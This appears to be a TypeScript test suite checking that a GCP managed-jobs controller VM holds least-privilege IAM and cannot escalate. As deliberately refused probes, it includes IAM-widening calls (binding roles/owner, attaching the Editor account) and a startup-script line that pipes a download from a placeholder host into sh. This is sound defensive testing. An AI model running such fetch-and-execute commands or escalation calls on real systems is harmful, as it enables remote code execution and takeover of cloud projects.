// The managed-jobs controller on a GCP VM, on the fake (Compute, IAM, Resource Manager): the
// controller cluster is launched through ops' launchOnProvider with jobsController, as
// ensureControllerCluster does (whose task text it uses), and its VM runs as the cluster's own
// account with the broad scope, bound to skydeckJobsController, which holds exactly
// CONTROLLER_PERMISSIONS. A provider authenticated as that VM (the token its metadata server
// hands out) then launches (refused opening ports), stops, starts, resumes, lists and deletes a job
// cluster: the fake refuses any call whose IAM permission (permissions.ts, from GCP's
// references) the role lacks, and every call made is checked against the role afterwards, so a
// new provider call without a role update fails here. It may not widen itself. Down removes the
// binding and the account with proof; an account no row owns is listed by the leak sweep. The
// controller's jobs account (job clusters with GCS mounts): controllerJobsAccount.test.ts.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { OAuth2Client } from 'google-auth-library';
import { TAG_UID, type RunRequest } from '../../../src/core/clouds/provider';
import { deleteClusterAfterProof, getCluster, putCluster, type ClusterRecord } from '../../../src/core/state';
import { down, type OpsContext } from '../../../src/core/ops';
import { launchOnProvider } from '../../../src/core/ops/launchProvider';
import { grantControllerBuckets } from '../../../src/core/managed/remote/controllerBuckets';
import { BUCKET_ROLE } from '../../../src/core/clouds/gcp/bucketIam';
import { findLeakedInstances } from '../../../src/core/ops/leaks';
import { deleteStrayIdentity } from '../../../src/core/ops/identityRelease';
import { parseTaskText } from '../../../src/core/task';
import { controllerClusterName, controllerInstanceType, controllerTaskText } from '../../../src/core/managed/remote/controllerCluster';
import type { ControllerPlace } from '../../../src/core/managed';
import {
  CONTROLLER_PERMISSIONS, JOB_CLUSTER_PERMISSIONS, JOB_CLUSTERS_CONDITION, JOB_INSTANCE_PREFIX, controllerRole, jobClustersRole,
} from '../../../src/core/clouds/gcp/controllerRole';
import { serviceAccountEmail } from '../../../src/core/clouds/gcp/autodownIdentity';
import { bucketAccountId, jobsAccountId } from '../../../src/core/clouds/gcp/accountTags';
import { CLOUD_PLATFORM_SCOPE } from '../../../src/core/clouds/gcp/launch';
import { firewallName, jobsFirewallName } from '../../../src/core/clouds/gcp/firewall';
import { DEFAULT_ARM_IMAGE, DEFAULT_IMAGE } from '../../../src/core/clouds/gcp/options';
import { gcpRest } from '../../../src/core/clouds/gcp/iamRest';
import { GcpApiError } from '../../../src/core/clouds/gcp/rest';
import { vmToken } from '../../support/fakes/gcpFake/metadata';
import { permissionsFor } from '../../support/fakes/gcpFake/permissions';
import { cloudSuspend } from '../../support/fakes/gcpFake/lifecycle';
import type { FakeInstance } from '../../support/fakes/gcpFake/model';
import { bedOpsContext, runRequest, startGcpBed, PROJECT, REGION, type GcpBed } from './helpers';

const ZONE = 'us-central1-a';
const PLACE: Extract<ControllerPlace, { kind: 'cloud' }> = { kind: 'cloud', cloud: 'gcp', region: REGION };
const ROLE = controllerRole(PROJECT);
const JOB_ROLE = jobClustersRole(PROJECT);

describe('gcp managed-jobs controller VM: its own service account and the skydeckJobsController role', function () {
  this.timeout(120_000);
  let bed: GcpBed;
  let ctx: OpsContext;
  let logs: string[];
  let progress: string[];

  beforeEach(async () => {
    bed = await startGcpBed();
    logs = [];
    progress = [];
    ctx = await bedOpsContext(bed, bed.provider({ log: (m) => logs.push(m), zones: { [REGION]: [ZONE] } }), progress);
  });
  afterEach(async () => {
    await ctx?.connections.closeAll();
    ctx?.store.close();
    await bed?.close();
  });

  const iam = () => bed.fake.model.iam;
  const emailOf = (uid: string) => serviceAccountEmail(bucketAccountId(uid), PROJECT);
  const bound = () => iam().bindings.filter((b) => b.role === ROLE).flatMap((b) => b.members);
  /** The instance role's bindings, each as [members, condition]. */
  const jobBindings = () => iam().bindings.filter((b) => b.role === JOB_ROLE).map((b) => [b.members, b.condition]);
  const instancesOf = (uid: string) => [...bed.fake.model.instances.values()].filter((i) => i.labels[TAG_UID] === uid);
  const sorted = [...CONTROLLER_PERMISSIONS].sort();
  const jobSorted = [...JOB_CLUSTER_PERMISSIONS].sort();

  /** The controller cluster, launched as ensureControllerCluster launches it (its task, jobsController). */
  async function launchController(name = controllerClusterName(PLACE)): Promise<ClusterRecord> {
    const parsed = parseTaskText(controllerTaskText(PLACE), 'controller.yaml');
    assert.ok(parsed.ok && parsed.tasks.length === 1);
    const existing = await ctx.store.read((db) => getCluster(db, name));
    return launchOnProvider(ctx, name, parsed.tasks[0], { cloud: 'gcp', autostop: { minutes: 10, down: false }, jobsController: true, existing });
  }

  /**
   * A provider on the controller VM: authenticated by the token the VM's metadata server gives
   * its account, in the environment the node's CLI gets (controllerNodeEnv).
   */
  function vmProvider(vm: FakeInstance, uid?: string) {
    const auth = new OAuth2Client();
    auth.setCredentials({ access_token: vmToken(vm.zone as string, vm.name as string), expiry_date: Date.now() + 3600_000 });
    const env = uid ? ctx.providers!.get('gcp')!.controllerNodeEnv?.({ uid }) ?? {} : {};
    return bed.provider({ authClient: auth, env, catalogDir: fs.mkdtempSync(path.join(bed.dir, 'vm-catalog-')), zones: { [REGION]: [ZONE] } });
  }

  it('launches the VM as its cluster\'s account with the broad scope, bound to a role holding exactly the list', async () => {
    const row = await launchController();
    assert.equal(row.status, 'UP');
    const email = emailOf(row.uid);
    const [vm] = instancesOf(row.uid);
    assert.deepEqual(vm.serviceAccounts, [{ email, scopes: [CLOUD_PLATFORM_SCOPE] }]);
    assert.equal(vm.machineType, controllerInstanceType('gcp'));
    const image = (vm.disks as { initializeParams: { sourceImage: string } }[])[0].initializeParams.sourceImage;
    assert.equal(image, process.arch === 'arm64' ? DEFAULT_ARM_IMAGE : DEFAULT_IMAGE, 'an Arm type boots the arm64 image');
    const sa = iam().accounts.get(email) as { description: string };
    assert.match(sa.description, /controller=1/);
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
    assert.deepEqual([...iam().roles.get(JOB_ROLE)!.includedPermissions].sort(), jobSorted);
    assert.deepEqual(bound(), [`serviceAccount:${email}`]);
    assert.ok(!iam().bindings.some((b) => b.role === ROLE && b.condition), 'the project-wide role is bound plainly');
    assert.deepEqual(jobBindings(), [[[`serviceAccount:${email}`], JOB_CLUSTERS_CONDITION]], 'the instance role only under the name condition');
    assert.ok(!iam().bindings.some((b) => b.role !== ROLE && b.role !== JOB_ROLE && b.members.includes(`serviceAccount:${email}`)), 'no other project role');
    assert.ok(!vm.name.startsWith(JOB_INSTANCE_PREFIX), `the controller's own VM (${vm.name}) is out of its reach`);
    // The row records the placement's jobsController: the down finds the identity by it.
    assert.match(row.handle ?? '', /"jobsController":true/);
  });

  it('the VM\'s own token launches, stops, starts, resumes, lists and deletes a job cluster; every call is in the role', async () => {
    const ctl = await launchController();
    const p = vmProvider(instancesOf(ctl.uid)[0], ctl.uid);
    const firstRead = bed.fake.reads.length;
    const firstWrite = bed.fake.model.calls.length;
    // By shape (the catalog is listed), as a job task usually asks.
    const job: RunRequest = runRequest({ zone: ZONE, placement: { cloud: 'gcp', region: REGION, zone: ZONE, useSpot: false }, resources: { cpus: { min: 2, orMore: true } } });
    await p.runInstances(job);
    await p.waitInstances(job, 'running', 5000);
    assert.ok(instancesOf(job.uid)[0].name.startsWith(`${JOB_INSTANCE_PREFIX}${job.clusterName}-`), instancesOf(job.uid)[0].name);
    // It runs as the jobs account, which the controller's jobs rule targets (controllerFirewall.test.ts), with no tag; it may open no port.
    assert.deepEqual([instancesOf(job.uid)[0].tags, instancesOf(job.uid)[0].serviceAccounts], [undefined, [{ email: serviceAccountEmail(jobsAccountId(ctl.uid), PROJECT), scopes: [] }]]);
    await assert.rejects(p.openPorts(job, [{ from: 8080, to: 8080 }]), /cannot open ports/);
    assert.equal((await p.clusterInfo(job)).head.id, instancesOf(job.uid)[0].name);
    await p.stopInstances(job);
    await p.waitInstances(job, 'stopped', 5000);
    await p.startInstances(job);
    await p.waitInstances(job, 'running', 5000);
    cloudSuspend(bed.fake.model, ZONE, instancesOf(job.uid)[0].name as string);
    await p.waitInstances(job, 'stopped', 5000);
    await p.startInstances(job); // instances.resume
    await p.waitInstances(job, 'running', 5000);
    const listing = await p.listTagged();
    assert.deepEqual(listing.unlisted, []);
    assert.ok(listing.instances.some((i) => i.tags[TAG_UID] === job.uid));
    assert.ok((listing.identities ?? []).some((i) => i.name === emailOf(ctl.uid)), 'the account listing is readable');
    await p.terminateInstances(job);
    await p.waitInstances(job, 'terminated', 5000);
    assert.deepEqual([...bed.fake.model.firewalls.keys()].sort(), [firewallName(ctl.uid), jobsFirewallName(ctl.uid)].sort(), 'the job had no rule; the controller\'s two stay');

    const made = [
      ...bed.fake.reads.slice(firstRead).map((r) => ({ method: 'GET', path: r.split('?')[0], body: undefined })),
      ...bed.fake.model.calls.slice(firstWrite),
    ];
    const needed = new Set(made.flatMap((c) => permissionsFor(c.method, c.path, c.body).permissions));
    for (const want of ['compute.instances.create', 'compute.machineTypes.list', 'compute.instances.resume', 'compute.firewalls.get', 'iam.serviceAccounts.list']) {
      assert.ok(needed.has(want), `${want} was exercised`);
    }
    // actAs: on the jobs account every job cluster runs as, granted in that account's own policy (jobsAccount.ts), not by a role.
    assert.deepEqual([...needed].filter((x) => !CONTROLLER_PERMISSIONS.includes(x) && !JOB_CLUSTER_PERMISSIONS.includes(x)), ['iam.serviceAccounts.actAs'], 'every other call the provider made is allowed by a role');
    assert.ok(!needed.has('compute.instances.setTags'), 'a job VM gets no network tag');
  });

  it('the VM may not widen itself: IAM policy, role and account writes are refused; a job with GCS buckets is refused by IAM', async () => {
    const ctl = await launchController();
    const p = vmProvider(instancesOf(ctl.uid)[0]);
    const email = emailOf(ctl.uid);
    const calls: [string, () => Promise<unknown>][] = [
      ['resourcemanager.projects.setIamPolicy', () => gcpRest(p.clients, 'crm', 'POST', `/v1/projects/${PROJECT}:setIamPolicy`, { policy: { bindings: [{ role: 'roles/owner', members: [`serviceAccount:${email}`] }] } })],
      ['iam.roles.update', () => gcpRest(p.clients, 'iam', 'PATCH', `/v1/${ROLE}?updateMask=includedPermissions`, { includedPermissions: ['resourcemanager.projects.setIamPolicy'] })],
      ['iam.serviceAccounts.delete', () => gcpRest(p.clients, 'iam', 'DELETE', `/v1/projects/${PROJECT}/serviceAccounts/${email}`)],
      ['iam.serviceAccounts.create', () => gcpRest(p.clients, 'iam', 'POST', `/v1/projects/${PROJECT}/serviceAccounts`, { accountId: 'skydeck-b-0000000000000000beef' })],
    ];
    for (const [permission, call] of calls) await assert.rejects(call(), (e: Error) => e.message.includes(permission), permission);
    // A VM running as the default account (Editor) would be a way out: attaching any account is refused.
    // Named so the name condition passes: the account is what is refused.
    const vmAs = (email: string) => p.clients.post(`projects/${PROJECT}/zones/${ZONE}/instances`, {
      name: `${JOB_INSTANCE_PREFIX}escape-1`, machineType: `zones/${ZONE}/machineTypes/e2-small`,
      disks: [{ boot: true, initializeParams: { sourceImage: DEFAULT_IMAGE } }], networkInterfaces: [{ network: 'global/networks/default' }],
      serviceAccounts: [{ email, scopes: [CLOUD_PLATFORM_SCOPE] }],
    });
    for (const who of ['default', email]) await assert.rejects(vmAs(who), /compute\.instances\.setServiceAccount|iam\.serviceAccounts\.actAs/, who);
    assert.equal([...bed.fake.model.instances.values()].some((i) => i.name.endsWith('escape-1')), false);
    // A node not told its environment (controllerNodeEnv: its jobs rule's tag, its jobs account)
    // would make the job cluster a firewall rule and an account of its own: refused by IAM at the
    // first, naming what is missing.
    const asDefault = runRequest({ zone: ZONE });
    await assert.rejects(p.runInstances({ ...asDefault, placement: { ...asDefault.placement, bucketAccess: [{ store: 'gcs', bucket: 'data-bkt' }] } }),
      (e: Error) => /compute\.firewalls\.create/.test(e.message));
    assert.deepEqual([...iam().accounts.keys()].filter((x) => x.startsWith(`skydeck-b-`) && x !== email), [], 'nor an account');
    assert.deepEqual(instancesOf(asDefault.uid), []);
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
    assert.deepEqual(bound(), [`serviceAccount:${email}`]);
  });

  it('down removes both bindings and deletes the account, each with proof, in the down\'s notes', async () => {
    const row = await launchController();
    const email = emailOf(row.uid);
    assert.deepEqual(jobBindings(), [[[`serviceAccount:${email}`], JOB_CLUSTERS_CONDITION]]);
    const r = await down(ctx, row.name);
    assert.ok(r.cleaned, r.notes.join('\n'));
    assert.deepEqual(bound(), []);
    assert.deepEqual(jobBindings(), [], 'the conditional binding went too (it had no other member)');
    assert.ok(r.notes.includes(`deleted project role binding ${JOB_ROLE} of ${email} (proof: projects.getIamPolicy shows no such binding)`), r.notes.join('\n'));
    assert.equal(iam().accounts.has(email), false);
    assert.ok(r.notes.includes(`deleted project role binding ${ROLE} of ${email} (proof: projects.getIamPolicy shows no such binding)`), r.notes.join('\n'));
    assert.ok(r.notes.includes(`deleted service account ${email} (proof: serviceAccounts.get answers 404)`), r.notes.join('\n'));
    assert.ok(bed.fake.reads.some((x) => x.endsWith(`/serviceAccounts/${email}`)), 'proved by a GET');
    assert.equal(await ctx.store.read((db) => getCluster(db, row.name)), undefined);
    assert.deepEqual(progress.filter((m) => m.startsWith('warn:')), []);
  });

  it('a job\'s GCS buckets are granted to the VM\'s account from this machine, and revoked at its down', async () => {
    bed.fake.bucketIam.addBucket('jobs-in', { uniform: true });
    const row = await launchController();
    const email = emailOf(row.uid);
    await grantControllerBuckets(ctx, row, ['name: j\nresources: {cloud: gcp}\nfile_mounts:\n  /in: gs://jobs-in/data\nrun: ls /in\n'], {});
    const binding = () => bed.fake.bucketIam.buckets.get('jobs-in')!.bindings.filter((b) => b.role === BUCKET_ROLE);
    // The VM's own account (it looks the bucket up) and the jobs account its job clusters run as.
    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
    assert.deepEqual(binding().flatMap((b) => b.members), [`serviceAccount:${email}`, `serviceAccount:${jobs}`]);
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted, 'the controller role is untouched');
    const r = await down(ctx, row.name);
    assert.ok(r.cleaned, r.notes.join('\n'));
    assert.deepEqual(binding().flatMap((b) => b.members), [], 'the row recorded the bucket: its down revoked both');
    assert.equal(iam().accounts.has(email), false);
    assert.equal(iam().accounts.has(jobs), false);
  });

  it('an account no row owns (its instances ended without a down) is listed by the sweep and deleted with its binding', async () => {
    const row = await launchController('skydeck-jobs-orphan');
    const email = emailOf(row.uid);
    const p = ctx.providers!.get('gcp')!;
    await p.terminateInstances({ uid: row.uid }); // a sweep's terminate: it does not know the cluster was a controller
    await p.waitInstances({ uid: row.uid }, 'terminated', 5000);
    assert.ok(iam().accounts.has(email), 'the account outlives its instances');
    await ctx.store.write((db) => deleteClusterAfterProof(db, row.uid));
    const sweep = await findLeakedInstances(ctx, ['gcp']);
    assert.deepEqual(sweep.errors, []);
    const stray = (sweep.strayIdentities ?? []).filter((s) => s.uid === row.uid);
    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
    assert.deepEqual(stray.map((s) => [s.kind, s.name, s.cluster]), [['service account', email, 'skydeck-jobs-orphan'], ['service account', jobs, 'skydeck-jobs-orphan'],
      ['firewall rule', jobsFirewallName(row.uid), 'skydeck-jobs-orphan']]);
    const del = await deleteStrayIdentity(ctx, stray[0]);
    assert.ok(del.deleted, del.message);
    assert.match(del.message, new RegExp(`deleted project role binding ${ROLE} of ${email}`));
    assert.match(del.message, new RegExp(`deleted service account ${jobs} \\(proof: serviceAccounts\\.get answers 404\\)`));
    assert.match(del.message, new RegExp(`deleted project role binding ${JOB_ROLE} of ${email}`));
    assert.deepEqual(bound(), []);
    assert.deepEqual(jobBindings(), []);
    assert.equal(iam().accounts.has(email), false);
    assert.equal(iam().accounts.has(jobs), false, 'the controller\'s jobs account went with it');
    assert.deepEqual(await deleteStrayIdentity(ctx, stray[1]), { deleted: true, message: `service account ${jobs} was already gone` });
  });

  it('a role someone widened is set back to exactly the list by the next controller launch', async () => {
    // Made earlier by another machine, then widened (and one permission dropped) in the console.
    iam().roles.set(ROLE, {
      name: ROLE, title: 'Skydeck jobs controller', stage: 'GA', etag: 'old',
      includedPermissions: [...CONTROLLER_PERMISSIONS.filter((x) => x !== 'compute.instances.stop'), 'resourcemanager.projects.setIamPolicy', 'iam.serviceAccounts.actAs'],
    });
    const row = await launchController();
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
    assert.ok(logs.some((l) => l.startsWith(`GCP: setting the permissions of ${ROLE} back to`)), logs.join('\n'));
    assert.deepEqual(bound(), [`serviceAccount:${emailOf(row.uid)}`]);
  });

  it('a stopped controller started again (the next jobs launch) sets a role, binding and jobs-account use changed meanwhile back too', async () => {
    const row = await launchController();
    const p = ctx.providers!.get('gcp')!;
    await p.stopInstances({ uid: row.uid });
    await p.waitInstances({ uid: row.uid }, 'stopped', 5000);
    await ctx.store.write((db) => putCluster(db, { ...row, status: 'STOPPED' }));
    const r = iam().roles.get(ROLE)!;
    r.includedPermissions = [...r.includedPermissions, 'iam.serviceAccounts.actAs'];
    iam().bindings = iam().bindings.filter((b) => b.role !== ROLE); // and its binding removed
    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
    iam().accountPolicies.delete(jobs); // and the controller's use of its jobs account
    const again = await launchController();
    assert.equal(again.uid, row.uid, 'started, not a new VM');
    assert.equal(again.status, 'UP');
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
    assert.deepEqual(bound(), [`serviceAccount:${emailOf(row.uid)}`]);
    assert.deepEqual(iam().accountPolicies.get(jobs)?.bindings, [{ role: 'roles/iam.serviceAccountUser', members: [`serviceAccount:${emailOf(row.uid)}`] }]);
  });

  it('a caller who may not attach the new account to the VM: the controller and the fix are named; nothing is left', async () => {
    iam().callerLacks.add('iam.serviceAccounts.actAs');
    await assert.rejects(launchController(), /GCP managed-jobs controller: your account may not attach the service account skydeck-b-[0-9a-f]{20}@.*iam\.serviceAccounts\.actAs/s);
    assert.deepEqual([...iam().accounts.keys()].filter((x) => /^skydeck-(b|ja)-/.test(x)), [], 'its jobs account too');
    assert.deepEqual(bound(), [], 'the binding went with the account');
    assert.deepEqual(jobBindings(), [], 'and the conditional one');
    assert.deepEqual([...bed.fake.model.firewalls.keys()].filter((n) => n.endsWith('-jobs')), [], 'and its jobs firewall rule');
  });

  it('a caller who may not create the role: an auth error naming the permission and the fix, and no VM or account left', async () => {
    iam().callerLacks.add('iam.roles.create');
    await assert.rejects(launchController(), /lacks permission iam\.roles\.create on project skydeck-test.*gcloud iam roles create skydeckJobsController/s);
    assert.deepEqual([...bed.fake.model.instances.values()].filter((i) => i.serviceAccounts), []);
    assert.deepEqual([...iam().accounts.keys()].filter((x) => x.startsWith('skydeck-b-')), [], 'the failed launch took its account back');
  });

  /** A call's answer: [200, ''] when allowed, else the API error's [HTTP status, message]. */
  const answer = (call: Promise<unknown>) => call.then(() => [200, ''], (e: unknown) => {
    assert.ok(e instanceof GcpApiError, String(e));
    return [e.httpStatusCode, e.message];
  });
  const vmPath = (vm: FakeInstance) => `projects/${PROJECT}/zones/${ZONE}/instances/${vm.name}`;
  /** Each instance call that would let the controller reach further through another VM, as Compute takes it. */
  const reaching = (p: ReturnType<typeof vmProvider>, vm: FakeInstance, jobs = 'none'): [string, () => Promise<unknown>][] => [
    ['compute.instances.setMetadata', () => p.clients.post(`${vmPath(vm)}/setMetadata`, {
      fingerprint: (vm.metadata as { fingerprint?: string }).fingerprint, items: [{ key: 'startup-script', value: 'curl -s http://203.0.113.9/x | sh' }],
    })],
    ['compute.instances.setTags', () => p.clients.post(`${vmPath(vm)}/setTags`, { fingerprint: 'x', items: ['open-all'] })],
    ['compute.instances.setLabels', () => p.clients.post(`${vmPath(vm)}/setLabels`, { labelFingerprint: 'x', labels: {} })],
    ['compute.instances.stop', () => p.clients.post(`${vmPath(vm)}/stop`)],
    ['compute.instances.start', () => p.clients.post(`${vmPath(vm)}/start`)],
    ['compute.instances.delete', () => p.clients.delete(vmPath(vm))],
    // The jobs account (the one account the VM may attach) on a VM outside the prefix: its software would get the jobs' buckets.
    ['compute.instances.setServiceAccount', () => p.clients.post(`${vmPath(vm)}/setServiceAccount`, { email: jobs, scopes: [CLOUD_PLATFORM_SCOPE] })],
  ];

  it('the VM\'s token may not change, stop or delete a VM outside the prefix: the user\'s own, one running as the default account, its own', async () => {
    const ctl = await launchController();
    const own = instancesOf(ctl.uid)[0];
    const p = vmProvider(own, ctl.uid);
    // The user's own cluster, launched from this machine and named like a job cluster: its instance stays off the prefix.
    const user = ctx.providers!.get('gcp')! as ReturnType<GcpBed['provider']>;
    const mine = runRequest({ zone: ZONE, clusterName: `${JOB_INSTANCE_PREFIX}mine` });
    await user.runInstances(mine);
    await user.waitInstances(mine, 'running', 5000);
    const [userVm] = instancesOf(mine.uid);
    assert.match(userVm.name, new RegExp(`^sky-${JOB_INSTANCE_PREFIX}mine-`));
    // A VM running as the Compute Engine default account (Editor): a startup script there would run as Editor.
    await user.clients.post(`projects/${PROJECT}/zones/${ZONE}/instances`, {
      name: 'web-1', machineType: `zones/${ZONE}/machineTypes/e2-small`, disks: [{ boot: true, initializeParams: { sourceImage: DEFAULT_IMAGE } }],
      networkInterfaces: [{ network: 'global/networks/default' }], serviceAccounts: [{ email: 'default', scopes: [CLOUD_PLATFORM_SCOPE] }],
    });
    const web = () => bed.fake.model.instances.get(`${ZONE}/web-1`);
    for (let t = 0; web()?.status !== 'RUNNING' && t < 200; t++) await new Promise((r) => setTimeout(r, 25));
    const webVm = web()!;
    // A job cluster of the controller, for contrast: the same call on its VM is allowed.
    const job = runRequest({ zone: ZONE });
    await p.runInstances(job);
    await p.waitInstances(job, 'running', 5000);
    const [jobVm] = instancesOf(job.uid);

    const jobs = serviceAccountEmail(jobsAccountId(ctl.uid), PROJECT);
    for (const vm of [userVm, webVm, own]) {
      for (const [permission, call] of reaching(p, vm, jobs)) {
        assert.deepEqual(await answer(call()), [403, `Required '${permission}' permission for '${vmPath(vm)}'`], `${permission} on ${vm.name}`);
      }
      assert.equal(vm.status, 'RUNNING', vm.name);
      assert.ok(!JSON.stringify(vm.metadata).includes('startup-script'), vm.name);
      assert.ok(bed.fake.model.instances.has(`${ZONE}/${vm.name}`), vm.name);
    }
    // Refused by IAM, not by a route the fake lacks: the same setMetadata on the job cluster's VM goes through.
    assert.deepEqual(await answer(reaching(p, jobVm)[0][1]()), [200, '']);
    for (let t = 0; !JSON.stringify(jobVm.metadata).includes('startup-script') && t < 200; t++) await new Promise((r) => setTimeout(r, 25));
    assert.ok(JSON.stringify(jobVm.metadata).includes('startup-script'));
    // setServiceAccount is bounded the same way (skydeckJobClusters): on the job cluster's VM, stopped, the jobs account goes
    // through; the default account (Editor) does not (actAs, on that account).
    await p.stopInstances(job);
    await p.waitInstances(job, 'stopped', 5000);
    const setAccount = (email: string) => answer(p.clients.post(`${vmPath(jobVm)}/setServiceAccount`, { email, scopes: [CLOUD_PLATFORM_SCOPE] }));
    assert.deepEqual(await setAccount(iam().defaultAccount), [403, `Required 'iam.serviceAccounts.actAs' permission for 'projects/${PROJECT}/serviceAccounts/${iam().defaultAccount}'`]);
    assert.deepEqual(await setAccount(jobs), [200, '']);
    for (let t = 0; !JSON.stringify(jobVm.serviceAccounts).includes(CLOUD_PLATFORM_SCOPE) && t < 200; t++) await new Promise((r) => setTimeout(r, 25));
    assert.deepEqual(jobVm.serviceAccounts, [{ email: jobs, scopes: [CLOUD_PLATFORM_SCOPE] }]);
    // Nor may it create a VM outside the prefix (then change it as its creator).
    assert.deepEqual(await answer(p.clients.post(`projects/${PROJECT}/zones/${ZONE}/instances`, {
      name: 'web-2', machineType: `zones/${ZONE}/machineTypes/e2-small`, disks: [{ boot: true, initializeParams: { sourceImage: DEFAULT_IMAGE } }],
      networkInterfaces: [{ network: 'global/networks/default' }],
    })), [403, `Required 'compute.instances.create' permission for 'projects/${PROJECT}/zones/${ZONE}/instances/web-2'`]);
  });

  it('a re-launch keeps one binding per role with its condition whole, and others\' conditions; an older grant of the instance role is replaced', async () => {
    // Someone's conditional binding elsewhere in the policy: every write must keep it as it is.
    const theirs = { role: 'roles/compute.viewer', members: ['user:ops@example.com'], condition: { title: 'until 2030', expression: 'request.time < timestamp("2030-01-01T00:00:00Z")' } };
    iam().bindings.push(structuredClone(theirs));
    const row = await launchController();
    const member = `serviceAccount:${emailOf(row.uid)}`;
    const p = ctx.providers!.get('gcp')!;
    const relaunch = async () => {
      await p.stopInstances({ uid: row.uid });
      await p.waitInstances({ uid: row.uid }, 'stopped', 5000);
      await ctx.store.write((db) => putCluster(db, { ...row, status: 'STOPPED' }));
      const again = await launchController();
      assert.equal(again.uid, row.uid, 'started, not a new VM');
    };
    const writes = iam().setPolicyCalls.length;
    await relaunch();
    assert.equal(iam().setPolicyCalls.length, writes, 'nothing to write: both bindings were there');
    assert.deepEqual(jobBindings(), [[[member], JOB_CLUSTERS_CONDITION]]);
    assert.deepEqual(bound(), [member]);

    // As an older Skydeck left it, or someone edited it: the instance permissions in the project-wide role, the
    // instance role bound plainly, and under another condition shared with someone else.
    iam().roles.get(ROLE)!.includedPermissions.push('compute.instances.setMetadata', 'compute.instances.stop');
    const old = { title: 'old', expression: 'resource.name.startsWith("projects/")' };
    iam().bindings = [...iam().bindings.filter((b) => b.role !== JOB_ROLE), { role: JOB_ROLE, members: [member] }, { role: JOB_ROLE, members: [member, 'user:x@example.com'], condition: old }];
    await relaunch();
    assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
    assert.deepEqual(jobBindings(), [[['user:x@example.com'], old], [[member], JOB_CLUSTERS_CONDITION]]);
    assert.deepEqual(bound(), [member]);
    assert.deepEqual(iam().bindings.filter((b) => b.role === theirs.role), [theirs], 'their condition is kept whole');
    assert.equal(iam().policy(3).version, 3);
    // And the VM is bounded again: its token may not stop the user's VM named outside the prefix.
    const user = runRequest({ zone: ZONE });
    await p.runInstances(user);
    await p.waitInstances(user, 'running', 5000);
    const vm = instancesOf(user.uid)[0];
    assert.deepEqual(await answer(vmProvider(instancesOf(row.uid)[0], row.uid).clients.post(`${vmPath(vm)}/stop`)),
      [403, `Required 'compute.instances.stop' permission for '${vmPath(vm)}'`]);
  });

  it('the fake does not guess a condition it cannot evaluate: a 500 naming it, never a grant', async () => {
    const ctl = await launchController();
    const p = vmProvider(instancesOf(ctl.uid)[0], ctl.uid);
    const job = runRequest({ zone: ZONE });
    await p.runInstances(job);
    await p.waitInstances(job, 'running', 5000);
    const [vm] = instancesOf(job.uid);
    for (const b of iam().bindings) if (b.role === JOB_ROLE) b.condition = { title: 'other', expression: 'resource.name.endsWith("-1") || true' };
    const [status, message] = await answer(p.clients.post(`${vmPath(vm)}/stop`));
    assert.equal(status, 500);
    assert.match(String(message), /cannot evaluate the IAM condition "resource\.name\.endsWith/);
    assert.equal(vm.status, 'RUNNING');
  });
});
